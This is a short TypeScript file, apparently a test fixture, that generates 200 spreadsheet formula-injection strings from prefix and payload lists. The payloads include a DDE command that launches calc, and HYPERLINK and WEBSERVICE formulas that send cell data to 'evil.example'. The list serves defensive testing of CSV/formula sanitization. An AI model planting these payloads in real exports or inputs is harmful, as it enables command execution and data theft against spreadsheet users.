const STARTS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  "\0=",
  " =",
  "\u00a0=",
  "  +",
  "\u200b@",
  "\ufeff-",
  "＝",
  "＋",
  "－",
  "＠",
  "=-",
  "@=",
  "+@",
];
const ENDS = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1;"Klick")',
  "SUMME(A1:A9)",
  'WEBSERVICE("http://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  "2*3;4",
  '"quoted";next',
  "A1\r\n=B1",
  "IMPORTXML(A1,'//a')",
];

/** Two hundred texts that a spreadsheet might run. */
export const FORMULA_STRINGS: readonly string[] = STARTS.flatMap((start) => ENDS.map((end) => start + end));
